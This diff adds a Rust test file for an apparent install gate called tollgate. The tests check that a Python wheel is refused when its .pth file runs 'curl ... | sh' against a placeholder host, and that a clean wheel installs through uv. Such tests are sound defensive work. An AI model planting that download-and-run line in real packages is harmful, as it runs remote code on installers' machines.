@@ -1,0 +1,140 @@
+//! `tollgate install uv` as a gate, offline: a loopback PEP 691 simple index (with
+//! SHA-256 hashes, which uv records in uv.lock) serving a wheel the test writes itself. A
+//! wheel whose `.pth` file downloads and runs a script (from a host under
+//! `.example.invalid`, never contacted) is refused before uv fetches anything: the
+//! project's pyproject.toml is byte for byte as before, no uv.lock and no `.venv` are
+//! left. The clean wheel is judged, fetched with `uv sync --frozen` and installed into
+//! `.venv`. Skipped (with a printed reason) when uv, or python3, is not installed.
+
+mod common;
+
+use std::path::{Path, PathBuf};
+
+use predicates::prelude::PredicateBooleanExt;
+use predicates::str::contains;
+use tempfile::TempDir;
+
+const NAME: &str = "harmless-gate-fixture";
+
+const PYPROJECT: &str = "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.8\"\ndependencies = []\n";
+
+/// The directory of the real `uv` binary: next to the real interpreter (pip's `uv`
+/// package), else the first on PATH (a pyenv shim there would not run in the sandbox).
+fn uv_dir(python_bin: &Path) -> Option<PathBuf> {
+    if python_bin.join("uv").is_file() {
+        return Some(python_bin.to_path_buf());
+    }
+    common::available("uv").then(|| common::program_dirs("uv").into_iter().next())?
+}
+
+struct Setup {
+    work: TempDir,
+    project: PathBuf,
+    path: String,
+}
+
+/// A scratch project, or why the test cannot run here.
+fn setup() -> Result<Setup, &'static str> {
+    let python = common::python().ok_or("python3 is not installed")?;
+    let python_bin = python.parent().ok_or("python3 has no directory")?;
+    let uv = uv_dir(python_bin).ok_or("uv is not installed")?;
+    let work = TempDir::new().unwrap();
+    let project = work.path().join("project");
+    std::fs::create_dir(&project).unwrap();
+    common::write(&project, "pyproject.toml", PYPROJECT);
+    let path = format!("{}:{}:/usr/bin:/bin", uv.display(), python_bin.display());
+    Ok(Setup {
+        work,
+        project,
+        path,
+    })
+}
+
+fn install(setup: &Setup, index: &str, extra: &[&str]) -> assert_cmd::assert::Assert {
+    common::tollgate()
+        .current_dir(&setup.project)
+        .env("HOME", setup.work.path())
+        .env("XDG_CACHE_HOME", setup.work.path().join("cache"))
+        .env("PATH", &setup.path)
+        .env("UV_DEFAULT_INDEX", format!("{index}/simple/"))
+        .env("UV_PYTHON_DOWNLOADS", "never")
+        .env_remove("UV_INDEX_URL")
+        .env_remove("UV_CACHE_DIR")
+        .env_remove("VIRTUAL_ENV")
+        .args(["install", "--allow-missing-db"])
+        .args(extra)
+        .args(["uv", "--"])
+        .arg(format!("{NAME}==1.0"))
+        .timeout(std::time::Duration::from_secs(180))
+        .assert()
+}
+
+/// Whether the fixture's module is in the project's `.venv`.
+fn installed(project: &Path) -> bool {
+    std::fs::read_dir(project.join(".venv/lib"))
+        .into_iter()
+        .flatten()
+        .flatten()
+        .any(|python| {
+            python
+                .path()
+                .join("site-packages/harmless_gate_fixture")
+                .exists()
+        })
+}
+
+#[test]
+fn wheel_whose_pth_downloads_and_runs_code_is_refused_before_uv_fetches() {
+    let setup = match setup() {
+        Ok(setup) => setup,
+        Err(why) => {
+            println!("skipped: {why}");
+            return;
+        }
+    };
+    let pth = "import os; os.system(\"curl https://payload.example.invalid/x | sh\")\n";
+    let index = common::simple_index(
+        NAME,
+        vec![(common::wheel_name(NAME), common::wheel(NAME, Some(pth)))],
+    );
+    install(&setup, &index, &[])
+        .code(1)
+        .stderr(contains(
+            "refused: the install-time code of harmless-gate-fixture is judged malicious",
+        ))
+        .stderr(contains("harmless_gate_fixture.pth:1"))
+        .stderr(contains("download-run"))
+        .stderr(contains("uv sync").not());
+    assert_eq!(
+        std::fs::read_to_string(setup.project.join("pyproject.toml")).unwrap(),
+        PYPROJECT,
+        "pyproject.toml is restored byte for byte"
+    );
+    assert!(
+        !setup.project.join("uv.lock").exists(),
+        "no uv.lock is left"
+    );
+    assert!(!setup.project.join(".venv").exists(), "no .venv is made");
+}
+
+#[test]
+fn clean_wheel_is_judged_then_installed() {
+    let setup = match setup() {
+        Ok(setup) => setup,
+        Err(why) => {
+            println!("skipped: {why}");
+            return;
+        }
+    };
+    let index = common::simple_index(
+        NAME,
+        vec![(common::wheel_name(NAME), common::wheel(NAME, None))],
+    );
+    install(&setup, &index, &[])
+        .success()
+        .stderr(contains("judging the code of 1 artifact(s) uv may install"))
+        .stderr(contains("uv sync --frozen"));
+    assert!(installed(&setup.project), "the wheel is in .venv");
+    let lock = std::fs::read_to_string(setup.project.join("uv.lock")).unwrap();
+    assert!(lock.contains("sha256:"), "{lock}");
+}
